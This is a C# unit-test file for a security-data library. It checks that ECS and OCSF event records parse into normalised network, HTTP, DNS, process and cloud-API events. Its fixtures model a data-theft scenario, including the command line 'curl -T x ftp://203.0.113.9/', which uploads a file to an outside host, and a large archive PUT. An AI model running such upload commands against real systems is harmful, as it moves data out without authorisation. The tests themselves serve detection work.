using System.Text;
using Det0131.Datasets.Readers;
using Det0131.Datasets.Readers.Exchange;
using Det0131.Datasets.Tests.Readers.Mutation;
using Det0131.Models.Events;

namespace Det0131.Datasets.Tests.Readers.Exchange;

/// <summary>
/// Records written by hand after Elastic's field reference and OCSF's schema (they lie with the mutation tests). The same happenings stand in both formats: the
/// events must agree but for source, identity and ids.
/// </summary>
public sealed class ExchangeTests
{
    private const long Time = 1767344400000000;

    [Fact]
    public void Parse_Ecs_EveryKind() => CheckCommon(Read(ExchangeFormats.Ecs, "ecs.json"), "ecs.network", "ecs.http", "ecs.dns", "ecs.process");

    [Fact]
    public void Parse_Ocsf_EveryKind()
    {
        var found = Read(ExchangeFormats.Ocsf, "ocsf.json");
        CheckCommon(found, "ocsf.network_activity", "ocsf.http_activity", "ocsf.dns_activity", "ocsf.process_activity");

        var call = found.Events[4];
        Assert.Equal(("ocsf.api_activity", EventKind.CloudApiCall, "s3:GetObject", "finance", "111111111111", "222222222222"), (call.Source, call.Kind, call.CloudAction, call.CloudResource, call.CloudAccount, call.ForeignAccount));
        Assert.Equal(("Backup", UserClass.CloudRole, "session", "203.0.113.7", Platform.IaaS, Outcome.Success, null), (call.CloudRole, call.UserClass, call.User, call.SourceAddress, call.Platform, call.Outcome, call.Host));
        Assert.Equal(["ocsf other class"], found.Ignored);
    }

    [Fact]
    public void Parse_EcsWithDotsInNames_SameEvent()
    {
        const string Flat = """{"@timestamp":"2026-01-02T09:00:05.000Z","event.category":"network","source.ip":"10.0.0.5","destination.ip":"203.0.113.9","destination.port":443,"network.transport":"tcp","source.bytes":7}""";
        var one = Assert.Single(CollectingSink.Read(ExchangeFormats.Ecs, "x", Flat).Events);

        Assert.Equal(("10.0.0.5", "203.0.113.9", 443, "tcp", 7L, null, null), (one.SourceAddress, one.DestinationAddress, one.DestinationPort, one.Transport, one.SourceBytes, one.Host, one.FlowKey));
    }

    [Fact]
    public void Parse_EcsAlert_IsNoEvent()
    {
        var alert = Encoding.UTF8.GetString(Seeds.Records("ecs.json")[0]).Replace("\"kind\":\"event\"", "\"kind\":\"alert\"", StringComparison.Ordinal);

        Assert.Equal(["ecs record that is no event"], CollectingSink.Read(ExchangeFormats.Ecs, "x", alert).Ignored);
    }

    [Fact]
    public void Parse_Denied_Fails() =>
        Assert.Equal(Outcome.Failure, Assert.Single(CollectingSink.Read(ExchangeFormats.Ocsf, "x",
            """{"class_uid":4001,"time":1767344405000,"status_id":1,"action_id":2,"src_endpoint":{"ip":"10.0.0.5"},"dst_endpoint":{"ip":"203.0.113.9"}}""").Events).Outcome);

    [Fact]
    public void Parse_BadRecords_RejectedByReason()
    {
        var flow = Encoding.UTF8.GetString(Seeds.Records("ecs.json")[0]);
        var found = CollectingSink.Read(ExchangeFormats.Ecs, "x",
            flow[..80], flow.Replace("@timestamp", "t", StringComparison.Ordinal), flow.Replace("\"2026-01-02T09:00:05", "\"2026-13-02T09:00:05", StringComparison.Ordinal), flow.Replace("10.0.0.5", "x", StringComparison.Ordinal),
            flow.Replace("50123", "99999", StringComparison.Ordinal), flow.Replace("20971520", "-1", StringComparison.Ordinal),
            """{"@timestamp":"2026-01-02T09:00:05.000Z","event":{"category":["process"],"type":["start"]},"process":{"name":"x"}}""",
            """{"@timestamp":"2026-01-02T09:00:05.000Z","event":{"category":["web"]},"http":{"request":{"method":"GET"}}}""");

        Assert.Equal(["not valid JSON", "time missing", "time not understood", "address not understood", "port not understood", "byte count not understood", "host missing", "address missing"], found.Rejected);
        Assert.Equal(["operation missing"], CollectingSink.Read(ExchangeFormats.Ocsf, "x", """{"class_uid":6003,"time":1767344405000}""").Rejected);
    }

    [Fact]
    public void Parse_DamagedRecords_EachAccountedFor()
    {
        Damage.Check(ExchangeFormats.Ecs, Seeds.Records("ecs.json"), 4000);
        Damage.Check(ExchangeFormats.Ocsf, Seeds.Records("ocsf.json"), 4000);
    }

    [Theory]
    [InlineData("ecs.json", "ecs")]
    [InlineData("ocsf.json", "ocsf")]
    [InlineData("windows.json", "windows")]
    [InlineData("suricata.json", "suricata")]
    public void Choose_FirstRecord_OwnReadersComeFirst(string seeds, string expected) => Assert.Equal(expected, FormatDetection.Choose(SourceFormats.All, Seeds.File(seeds), "x").Format?.Name);

    private static void CheckCommon(CollectingSink found, string network, string http, string dns, string process)
    {
        Assert.Empty(found.Rejected);
        var flow = found.Events[0];
        Assert.Equal((network, EventKind.NetworkFlow, "pc7", HostSide.Source, Platform.Windows, Time, 2000000L, Outcome.Success), (flow.Source, flow.Kind, flow.Host, flow.HostSide, flow.Platform, flow.TimeMicros, flow.DurationMicros, flow.Outcome));
        Assert.Equal(("10.0.0.5", 50123, "203.0.113.9", 443, "files.example.com", "tcp"), (flow.SourceAddress, flow.SourcePort, flow.DestinationAddress, flow.DestinationPort, flow.Domain, flow.Transport));
        Assert.Equal((20971520L, 1086L, "ssl", @"corp\alice", "curl.exe", "cmd.exe", @"C:\Tools\curl.exe"), (flow.SourceBytes, flow.DestinationBytes, flow.Application, flow.User, flow.Process, flow.Parent, flow.ProcessPath));
        Assert.True(flow.FlowKey is not null && flow.RecordId is not null && flow.ProcessKey is not null);

        var request = found.Events[1];
        Assert.Equal((http, EventKind.HttpRequest, null, "PUT", "files.example.com", "/u/a.7z", ".7z"), (request.Source, request.Kind, request.Host, request.HttpMethod, request.Domain, request.FilePath, request.FileExtension));
        Assert.Equal((20971520L, 1086L, "curl/8", "ssl", Outcome.Success, null), (request.SourceBytes, request.DestinationBytes, request.UserAgent, request.Application, request.Outcome, request.FlowKey));

        var query = found.Events[2];
        Assert.Equal((dns, EventKind.DnsQuery, "a.example.com", "TXT", "NOERROR", "10.0.0.5", 53), (query.Source, query.Kind, query.DnsName, query.DnsType, query.DnsResponse, query.SourceAddress, query.DestinationPort));

        var start = found.Events[3];
        Assert.Equal((process, EventKind.ProcessStart, "srv1", Platform.Linux, "curl", "/usr/bin/curl", "bash", "31", "30"), (start.Source, start.Kind, start.Host, start.Platform, start.Process, start.ProcessPath, start.Parent, start.ProcessKey, start.ParentKey));
        Assert.Equal("curl -T x ftp://203.0.113.9/", start.CommandLine);
    }

    private static CollectingSink Read(SourceFormat format, string seeds) => CollectingSink.ReadBytes(format.CreateParser("x"), "x", Seeds.Records(seeds));
}
